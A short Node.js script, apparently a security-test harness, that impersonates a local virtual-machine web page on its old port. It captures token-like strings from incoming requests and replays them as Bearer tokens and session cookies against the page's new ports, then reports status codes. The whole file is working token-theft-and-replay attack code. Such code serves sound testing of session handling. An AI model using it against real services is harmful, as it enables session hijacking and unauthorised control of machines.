// Listens where the page was, and keeps what it is sent until it has been sent enough; then plays all of it to the page's new port.

import { readFileSync } from 'node:fs';
import { createServer, request } from 'node:http';

const { port, requests, targets } = JSON.parse(process.env.ATTACK);
const loot = new Set();
let left = requests;
const server = createServer((got, response) => {
  for (const text of [...got.rawHeaders, got.url]) for (const word of text.match(/[\w.-]{20,}/g) ?? []) loot.add(word);
  response.end('<title>Virtual machines</title>');
  if (--left === 0) setTimeout(replay, targets.afterMs);
});
server.listen(port, '127.0.0.1');

function ask(to, headers) {
  return new Promise((resolve) => {
    const asked = request({ host: '127.0.0.1', port: to, path: '/api/vms', headers, agent: false });
    asked.on('error', (error) => resolve(error.code));
    asked.on('response', (answer) => {
      answer.resume();
      resolve(answer.statusCode);
    });
    asked.end();
  });
}

async function replay() {
  server.close();
  server.closeAllConnections();
  const statuses = [];
  for (const to of targets.ports) {
    for (const secret of loot) {
      statuses.push(await ask(to, { authorization: `Bearer ${secret}` }));
      statuses.push(await ask(to, { cookie: `virt-web-${to}=${secret}; virt-web-${port}=${secret}` }));
    }
  }
  let url = '';
  try {
    url = readFileSync(targets.addressFile, 'utf8');
  } catch (error) {
    url = error.code;
  }
  console.log(JSON.stringify({ loot: [...loot], statuses, url }));
}
